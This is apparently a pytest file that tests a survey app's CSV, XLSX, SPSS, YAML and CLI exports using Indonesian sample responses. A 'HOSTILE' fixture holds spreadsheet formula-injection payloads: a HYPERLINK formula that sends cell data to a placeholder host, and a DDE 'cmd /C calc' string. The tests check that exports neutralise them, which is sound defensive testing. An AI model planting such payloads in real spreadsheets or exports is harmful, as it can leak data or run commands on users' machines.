"""Data exports: CSV with BOM, XLSX with codebook, SPSS .sav with labels, instrument YAML."""
from __future__ import annotations

import csv
import io

import pyreadstat
import pytest
from openpyxl import load_workbook

from survey.instruments import load_instrument
from survey.studies.service import instrument_of

CSV = ("Q1,Q2,Q3,Q4,gender,age,saran\n"
       "5,1,4,4,Laki-laki,30,Pelayanan Bu Ñoña sangat ramah é\n"
       "4,,3,2,Perempuan,,\n")


@pytest.fixture
def owner_client(client, owned_study):
    client.study = owned_study(CSV)
    return client


def test_csv_has_bom_raw_and_reversed_columns(owner_client):
    response = owner_client.get(f"/studies/{owner_client.study.slug}/export/csv")
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["Q2"] for r in rows] == ["1", ""] and [r["Q2_r"] for r in rows] == ["5", ""]
    assert rows[0]["saran"] == "Pelayanan Bu Ñoña sangat ramah é" and rows[0]["gender"] == "Laki-laki"
    assert rows[0]["channel"] == "import" and rows[1]["age"] == ""


def test_sav_has_variable_and_value_labels(owner_client, tmp_path):
    response = owner_client.get(f"/studies/{owner_client.study.slug}/export/sav")
    path = tmp_path / "data.sav"
    path.write_bytes(response.get_data())
    frame, meta = pyreadstat.read_sav(str(path))
    labels = dict(zip(meta.column_names, meta.column_labels))
    assert labels["Q1"] == "Petugas memeriksa berkas saya dengan teliti."
    assert meta.variable_value_labels["Q1"][5.0] == "Sangat Setuju"
    assert meta.variable_value_labels["gender"] == {1.0: "Laki-laki", 2.0: "Perempuan"}
    assert frame["Q2_r"].tolist()[0] == 5 and frame["Q2"].isna().tolist() == [False, True]
    assert meta.variable_measure["Q1"] == "ordinal"


def test_xlsx_has_data_and_codebook_sheets(owner_client):
    response = owner_client.get(f"/studies/{owner_client.study.slug}/export/xlsx")
    book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert book.sheetnames == ["data", "codebook"]
    rows = list(book["data"].iter_rows(values_only=True))
    header = rows[0]
    assert rows[1][header.index("Q1")] == 5 and rows[2][header.index("Q2")] is None
    codebook = list(book["codebook"].iter_rows(values_only=True))
    q1 = next(r for r in codebook if r[0] == "Q1")
    assert "5=Sangat Setuju" in q1[3] and q1[4] == "no" and q1[5] == "KUAL"


def test_codebook_csv_and_instrument_yaml_round_trip(owner_client):
    codebook = owner_client.get(f"/studies/{owner_client.study.slug}/codebook.csv").get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(codebook)))
    assert {"Q1", "Q2", "Q2_r", "gender", "age", "saran"} <= {r["code"] for r in rows}
    yaml_text = owner_client.get(f"/studies/{owner_client.study.slug}/instrument.yaml").get_data(as_text=True)
    assert load_instrument(yaml_text) == instrument_of(owner_client.study)


def test_unknown_format_is_404(owner_client):
    assert owner_client.get(f"/studies/{owner_client.study.slug}/export/pdf").status_code == 404


HOSTILE = ("Q1,Q2,Q3,Q4,gender,age,saran\n"
           '5,1,4,4,Laki-laki,30,"=HYPERLINK(""http://contoh.invalid/?""&C2,""klik"")"\n'
           "4,,3,2,Perempuan,41,+1+cmd|' /C calc'!A0\n"
           "3,2,2,2,Perempuan,,-2+3\n"
           "3,2,2,2,Perempuan,,@SUM(A1)\n"
           "3,2,2,2,Perempuan,,Antrean - terlalu panjang\n")


@pytest.fixture
def hostile_client(client, owned_study):
    client.study = owned_study(HOSTILE)
    return client


def test_formulas_are_neutralised_in_csv_and_xlsx_numbers_stay_numbers(hostile_client):
    slug = hostile_client.study.slug
    rows = list(csv.DictReader(io.StringIO(
        hostile_client.get(f"/studies/{slug}/export/csv").get_data().decode("utf-8-sig"))))
    assert [r["saran"] for r in rows] == ["'=HYPERLINK(\"http://contoh.invalid/?\"&C2,\"klik\")",
                                          "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
                                          "Antrean - terlalu panjang"]
    assert rows[0]["Q1"] == "5" and rows[0]["age"] == "30"
    book = load_workbook(io.BytesIO(hostile_client.get(f"/studies/{slug}/export/xlsx").get_data()))
    sheet = book["data"]
    header = [c.value for c in sheet[1]]
    saran = [sheet.cell(row=r, column=header.index("saran") + 1) for r in range(2, 7)]
    assert [c.value[:2] for c in saran[:4]] == ["'=", "'+", "'-", "'@"]
    assert all(c.data_type == "s" for c in saran)
    assert sheet.cell(row=2, column=header.index("Q1") + 1).value == 5
    assert sheet.dimensions == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}6"
    codebook = {r[0].value: [c.value for c in r] for r in book["codebook"].iter_rows()}
    note = codebook["code"].index("note")
    assert "leading '" in codebook["saran"][note] and codebook["Q1"][note] in ("", None)


def test_semicolon_csv_opens_in_columns_with_decimal_commas(hostile_client):
    import pandas as pd
    data = hostile_client.get(f"/studies/{hostile_client.study.slug}/export/csv-semicolon").get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("response_id;submitted_at;channel;Q1;Q2;")
    frame = pd.read_csv(io.StringIO(text), sep=";", decimal=",")
    assert frame["Q1"].tolist() == [5, 4, 3, 3, 3] and frame["age"].iloc[1] == 41


def test_whole_numbers_stay_whole_in_the_semicolon_csv():
    import pandas as pd
    from survey.exports.data import EXPORTS
    from survey.instruments import build_instrument
    from tests.conftest import instrument_doc
    from survey.analysis.frames import StudyFrames
    instrument = build_instrument(instrument_doc(demographics=[], open_questions=[]))
    index = pd.RangeIndex(1, 3)
    frames = StudyFrames(answers=pd.DataFrame({c: [1.0, 2.0] for c in ("Q1", "Q2", "Q3", "Q4")}, index=index),
                         demographics=pd.DataFrame(index=index),
                         responses=pd.DataFrame({"channel": "link", "simulated": False,
                                                 "submitted_at": pd.Timestamp("2026-11-02 08:00", tz="UTC")},
                                                index=index))
    out = io.BytesIO()
    EXPORTS["csv-semicolon"][2](instrument, frames, out)
    # answers arrive as floats from the frames; they are written 1, not "1,0"
    assert "1;2026-11-02 08:00:00;link;1;1;1;1;5\r\n" in out.getvalue().decode("utf-8-sig")
    from survey.exports.data import neutralise
    assert neutralise(pd.Series(["=1", "1,5", None], dtype=object)).tolist() == ["'=1", "1,5", None]


@pytest.mark.parametrize("fmt", ["csv", "csv-semicolon", "xlsx", "codebook", "yaml", "xlsform"])
def test_cli_export_writes_each_format(runner, owner_client, tmp_path, fmt):
    import pandas as pd
    from survey.instruments.xlsform import read_xlsform
    path = tmp_path / "out"
    result = runner.invoke(args=["export", owner_client.study.slug, "--format", fmt, "-o", str(path)])
    assert result.exit_code == 0, result.output
    data = path.read_bytes()
    instrument = instrument_of(owner_client.study)
    if fmt in ("csv", "csv-semicolon"):
        frame = pd.read_csv(path, sep=";" if fmt == "csv-semicolon" else ",", encoding="utf-8-sig")
        assert len(frame) == 2 and frame["Q1"].tolist() == [5, 4]
    elif fmt == "xlsx":
        assert load_workbook(io.BytesIO(data)).sheetnames == ["data", "codebook"]
    elif fmt == "codebook":
        assert "spss_name" in data.decode("utf-8-sig").splitlines()[0]
    elif fmt == "yaml":
        assert load_instrument(data) == instrument
    else:
        assert read_xlsform(data)[0] == instrument


def test_cli_export_of_an_unknown_study_fails_clearly(runner, app, tmp_path):
    result = runner.invoke(args=["export", "tidak-ada", "--format", "csv", "-o", str(tmp_path / "x.csv")])
    assert result.exit_code != 0 and 'no study with slug "tidak-ada"' in result.output
